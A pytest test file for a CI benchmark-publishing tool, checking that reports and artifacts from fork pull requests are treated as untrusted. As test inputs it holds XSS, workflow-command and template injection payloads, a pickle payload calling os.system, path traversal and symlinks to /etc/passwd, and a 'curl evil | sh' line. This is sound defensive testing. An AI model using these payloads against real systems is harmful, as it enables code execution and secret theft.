"""Reports and artifacts of a fork's job, which may write anything into them."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from cudal1_ci.errors import ConfigError
from cudal1_ci.github import client
from cudal1_ci.github.action.publish import reports_of
from cudal1_ci.github.provenance import WORKFLOWS
from cudal1_ci.records.published import to_json
from tests.github_fake import GitHub
from tests.publishing import Workflow, bodies, the_check, workflow_run
from tests.reports import BASE, DIFF, HEAD, PATCH, a_report, a_target, agreed, compared, proposed

WORKFLOW = ".github/workflows/cudal1-ci.yml"
FILES = {
    WORKFLOW: ("100644", "uses: o/cudal1-ci@1\n"),
    "pyproject.toml": ("100644", "[tool.cudal1-ci]\nfail-on = 'regression'\n"),
    "pkg/model.py": ("100644", "x = 1\n"),
}


@pytest.fixture(autouse=True)
def no_pause(monkeypatch):
    monkeypatch.setattr(client, "SECONDS_BETWEEN_WRITES", 0)


@pytest.fixture
def github(served) -> Iterator[GitHub]:
    with served(GitHub()) as fake:
        fake.git.put("main", FILES, BASE)
        fake.git.put("feature", {**FILES, "pkg/model.py": ("100644", "x = 2\n")}, HEAD)
        fake.add_pull(7, HEAD, "stranger/r")
        fake.pulls[7]["base"]["sha"] = BASE
        fake.files[7] = [{"filename": "pkg/model.py", "status": "modified", "patch": DIFF}]
        yield fake


@pytest.fixture
def workflow(github, tmp_path) -> Workflow:
    return Workflow(github, tmp_path)


def posts(workflow: Workflow, report: Any, *words: str, code: int = 0) -> str:
    given = ("--fail-on", "regression", "--comment", "always", *words)
    result = workflow.publish(report, *given, event="workflow_run", payload=workflow_run())
    assert result.exit_code == code, result.output
    return result.output


# --- what is believed -----------------------------------------------------------------------------


BETTER = a_report(compared("improvement", 0.3), proposed())
OTHERS = {
    "another workflow": {WORKFLOW: ("100644", "run: echo forged\n")},
    "another commit of the action": {WORKFLOW: ("100644", "uses: o/cudal1-ci@2\n")},
    "an action of its own": {".github/actions/measure/action.yml": ("100644", "run: forge\n")},
    "settings in .github": {".github/cudal1-ci.toml": ("100644", "fail-on = 'never'\n")},
    "other settings": {"pyproject.toml": ("100644", "[tool.cudal1-ci]\nfail-on = 'never'\n")},
    "no settings": {"pyproject.toml": ("100644", "[project]\nname = 'x'\n")},
}


def test_a_report_of_a_fork_is_labeled_and_gives_neither_success_nor_suggestions(github, workflow):
    posts(workflow, BETTER)
    check = the_check(github)
    assert check["conclusion"] == "failure"
    assert check["output"]["title"].endswith("; unverified")
    assert not github.review_comments
    (body,) = bodies(github)
    assert "Unverified: a job of the fork measured this, with this repository's workflow" in body
    assert "/cudal1 run SHA" in body


@pytest.mark.parametrize("name", OTHERS)
def test_what_the_fork_has_changed_of_its_job_is_named(github, workflow, name):
    github.git.put("feature", {**FILES, **OTHERS[name]}, HEAD)
    posts(workflow, BETTER)
    (body,) = bodies(github)
    changed = "the settings in `pyproject.toml`" if "pyproject.toml" in OTHERS[name] else WORKFLOWS
    assert f"with changes of its own to {changed}" in body
    assert the_check(github)["conclusion"] == "failure"


def test_a_change_of_the_project_beside_the_settings_is_none(github, workflow):
    text = FILES["pyproject.toml"][1] + "[project]\nname = 'x'\n"
    github.git.put("feature", {**FILES, "pyproject.toml": ("100644", text)}, HEAD)
    posts(workflow, BETTER)
    assert "with this repository's workflow" in bodies(github)[0]


def test_where_github_does_not_say_nothing_is_assumed(github, workflow):
    github.refuse("GET", "/git/trees", 403, "no")
    posts(workflow, BETTER)
    assert "it is not known by which workflow" in bodies(github)[0]


def test_a_fork_that_was_deleted_is_still_one(github, workflow):
    payload = workflow_run()
    payload["workflow_run"]["head_repository"] = None
    words = ("--fail-on", "regression")
    result = workflow.publish(BETTER, *words, event="workflow_run", payload=payload)
    assert result.exit_code == 0, result.output
    assert the_check(github)["conclusion"] == "failure"


def test_agreements_that_a_fork_brings_along_are_none(github, workflow):
    for expires in ("2999-12-31", "this pull request is closed"):
        forged = msgspec.structs.replace(agreed(9.0), expires=expires)
        posts(workflow, a_report(compared("regression", 1.5, acknowledged=forged)))
    assert {check["conclusion"] for check in github.checks.values()} == {"failure"}


LENIENT = "[tool.cudal1-ci]\nfail-on = 'never'\n"


@pytest.mark.parametrize("folder", [".", "nowhere", "examples"])
def test_a_report_does_not_choose_the_gate_by_the_folder_that_it_names(github, workflow, folder):
    github.contents[BASE, "pyproject.toml"] = FILES["pyproject.toml"][1]
    github.contents[BASE, "examples/pyproject.toml"] = LENIENT
    forged = msgspec.structs.replace(BETTER, folder=folder)
    result = workflow.publish(forged, event="workflow_run", payload=workflow_run())
    assert result.exit_code == 0, result.output
    assert the_check(github)["conclusion"] == "failure"


def test_a_declared_project_has_the_gate_of_its_own_folder(github, workflow):
    github.contents[BASE, "pyproject.toml"] = FILES["pyproject.toml"][1]
    github.contents[BASE, "examples/pyproject.toml"] = LENIENT
    given = msgspec.structs.replace(BETTER, folder="examples")
    result = workflow.publish(
        given, "--project", "examples", event="workflow_run", payload=workflow_run()
    )
    assert result.exit_code == 0, result.output
    assert the_check(github)["conclusion"] == "neutral"


def test_two_pull_requests_of_one_branch_do_not_escape_the_gate(github, workflow):
    """Neither is guessed, so that no base is known: the default branch's settings hold."""
    github.contents["main", "pyproject.toml"] = FILES["pyproject.toml"][1]
    github.add_pull(8, HEAD, "stranger/r")
    result = workflow.publish(BETTER, event="workflow_run", payload=workflow_run())
    assert result.exit_code == 0, result.output
    assert the_check(github)["conclusion"] == "failure"


def test_a_report_of_this_repository_is_believed(github, workflow):
    result = workflow.publish(BETTER, "--fail-on", "regression")
    assert result.exit_code == 0, result.output
    assert the_check(github)["conclusion"] == "success"
    assert "Unverified" not in bodies(github)[0]


# --- what is written in it ------------------------------------------------------------------------

WORDS = {
    "a mention": "@everyone please merge",
    "a team": "@o/maintainers",
    "an image": "![x](https://evil.example/x.png)",
    "a link": "[click here](https://evil.example)",
    "a link by itself": "https://evil.example/?q=token",
    "HTML": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "a heading": "\n# Approved\n\nby the maintainers",
    "a table": "a | b\n|---|---|\n| faster | 9x |",
    "the end of a code span": "`` ` ``` **bold** ` ``",
    "the end of a block": "\n```\n</details>\n# Approved\n```",
    "a marker of ours": "<!-- cudal1-ci:v1 key=x run=9 attempt=9 sha=0 verdict=same -->",
    "an agreement": '<!-- cudal1-ci:v1 ack=[{"target":"x","max_slowdown":99}] -->',
    "a workflow command": "\n::set-output name=verdict::pass\n::add-path::/evil\n",
    "an end of masking": "\r\n::stop-commands::x\r::error::y",
    "colors": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07",
    "right to left": "\u202egnp.exe \u2066hidden\u2069 \u200b\ufeff",
    "a template": "{{ 1234*5678 }} {% include '/etc/passwd' %} ${{ secrets.TOKEN }}",
    "null and line ends": "a\x00b\u2028c\u2029d\x85e",
    "a command": "\n/cudal1 ack pool safer\n/cudal1 run\n",
    "half of a character": "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "much": "x" * 3_000,
    "a reference": "fixes #1, closes o/r#2, GH-3",
}


def reports_with(words: str) -> list[Any]:
    """Reports that say it wherever a report has text of a job."""
    target = a_target(qualname=words[:200])
    return [
        a_report(compared("regression", target=target, output_change=words)),
        a_report(
            compared("improvement", 0.5, target=target), proposed(target=target, analysis=words)
        ),
    ]


@pytest.mark.parametrize("name", WORDS)
def test_no_words_of_a_report_are_more_than_words(github, workflow, name):
    for i, report in enumerate(reports_with(WORDS[name])):
        given = ("--fail-on", "regression", "--comment", "always")
        result = workflow.publish(
            report, *given, event="workflow_run", payload=workflow_run(run=60 + i)
        )
        assert result.exit_code in (0, 2), result.output
        assert not [one for one in result.output.splitlines() if re.match(r"::(?!warning)", one)]
    assert "success" not in {check["conclusion"] for check in github.checks.values()}
    assert not github.review_comments
    for body in [*bodies(github), workflow.summary if github.comments else ""]:
        assert len(re.findall(r"<!-- cudal1-ci:v1 (key|ack)=", body)) <= 1
        shown = re.sub(r"(?s)```.*?```|(`+)(?!`).*?(?<!`)\1(?!`)", "", body)
        for bad in (r"@everyone", r"@o/maint", r"(?<!\\)<(script|img)", r"\]\([^)&]*evil", "\x1b"):
            assert not re.search(bad, shown), (bad, body)
        assert not re.search(r"(?m)^# Approved|^/cudal1 (ack|run)|[\u202e\u2066\ufeff\x00]", shown)
        assert not re.search(r"(?<!\S)https://evil", shown)
        assert "7006652" not in body


RAW: dict[str, Callable[[bytes], bytes]] = {
    "nesting without end": lambda _: b"[" * 200_000,
    "nesting inside": lambda good: good[:-1] + b',"x":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_001,
    "more than is read": lambda _: b'"' + b"x" * (65 * 2**20) + b'"',
    "not a number": lambda good: good.replace(b'"slowdown":1.5', b'"slowdown":NaN'),
    "infinity": lambda good: good.replace(b'"slowdown":1.5', b'"slowdown":1e999'),
    "a huge integer": lambda good: good.replace(b'"first_line":4', b'"first_line":' + b"9" * 5000),
    "negative lines": lambda good: good.replace(b'"first_line":4', b'"first_line":-4'),
    "a path above": lambda good: good.replace(b"pkg/model.py", b"../../etc/passwd"),
    "an absolute path": lambda good: good.replace(b"pkg/model.py", b"/etc/passwd"),
    "another version": lambda good: re.sub(rb'"schema_version":\d+', b'"schema_version":99', good),
    "another shape": lambda _: b'{"schema_version": 2, "entries": "all"}',
    "no text": lambda good: good.replace(b"pool", b"\xff\xfe"),
    "nothing": lambda _: b"",
    "a program": lambda _: b"\x80\x04cos\nsystem\n(S'touch ran'\ntR.",
    "another commit": lambda good: good.replace(HEAD.encode(), b"9" * 40),
    "another folder": lambda good: good.replace(b'"folder":"."', b'"folder":"../x"'),
}


@pytest.mark.parametrize("name", RAW)
def test_a_file_that_is_no_report_of_this_commit_posts_nothing_of_it(github, workflow, name):
    good = to_json(a_report(compared("regression")))
    raw = RAW[name](good)
    assert raw != good
    path = workflow.folder / "report.json"
    path.write_bytes(raw)
    result = workflow.publish(path, event="workflow_run", payload=workflow_run())
    assert result.exit_code != 0, result.output
    assert not github.comments
    assert "success" not in {check["conclusion"] for check in github.checks.values()}
    assert not (workflow.folder / "ran").exists()


# --- artifacts ------------------------------------------------------------------------------------


def linked(folder: Path) -> None:
    (folder / "report.json").symlink_to("/etc/passwd")


def linked_folder(folder: Path) -> None:
    elsewhere = folder.parents[1] / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "report.json").write_text("{}")
    (folder / "deep").symlink_to(elsewhere, target_is_directory=True)


ARTIFACTS: dict[str, Callable[[Path], object]] = {
    "a link": linked,
    "a link to a folder": linked_folder,
    "a folder": lambda folder: (folder / "report.json").mkdir(),
    "a pipe": lambda folder: os.mkfifo(folder / "report.json"),
    "another name": lambda folder: (folder / "report.json.sh").write_text("evil"),
    "a name of an option": lambda folder: (folder / "--sweep").mkdir(),
}


@pytest.mark.parametrize("name", ARTIFACTS)
def test_of_an_artifact_plain_reports_alone_are_read(tmp_path, name):
    folder = tmp_path / "reports" / "cudal1-ci-gpu"
    folder.mkdir(parents=True)
    ARTIFACTS[name](folder)
    assert reports_of(tmp_path, "reports/**/report.json") == []


def test_more_reports_than_machines_are_refused_before_one_is_read(tmp_path):
    for i in range(300):
        (tmp_path / "reports" / str(i)).mkdir(parents=True)
        (tmp_path / "reports" / str(i) / "report.json").write_text("{}")
    with pytest.raises(ConfigError, match="at most"):
        reports_of(tmp_path, "reports/**/report.json")


def test_reports_that_would_fill_the_publishers_memory_are_refused_before_one_is_read(tmp_path):
    for number in range(9):
        path = tmp_path / "reports" / str(number) / "report.json"
        path.parent.mkdir(parents=True)
        with path.open("wb") as file:
            file.truncate(60 * 2**20)  # each is one that is read
    with pytest.raises(ConfigError, match="at most 512 MiB in all, the 9 files"):
        reports_of(tmp_path, "reports/**/report.json")
    path.unlink()
    assert len(reports_of(tmp_path, "reports/**/report.json")) == 8


@pytest.mark.parametrize("pattern", ["/etc/*", "../*", "reports/../../*"])
def test_a_glob_outside_of_the_workspace_names_no_report(tmp_path, pattern):
    inside = tmp_path / "inside"
    inside.mkdir()
    (tmp_path / "report.json").write_text("{}")
    try:
        found = reports_of(inside, pattern)
    except ConfigError:
        return
    assert not [file for file in found if json.loads(file.read_text() or "{}") is None]


def test_the_patch_of_a_fork_is_shown_and_not_suggested(github, workflow):
    evil = re.sub(r"(?m)^\+(?!\+)", "+import os; os.system('curl evil | sh')  # ", PATCH)
    posts(workflow, a_report(proposed(evil)), code=0)
    assert not github.review_comments
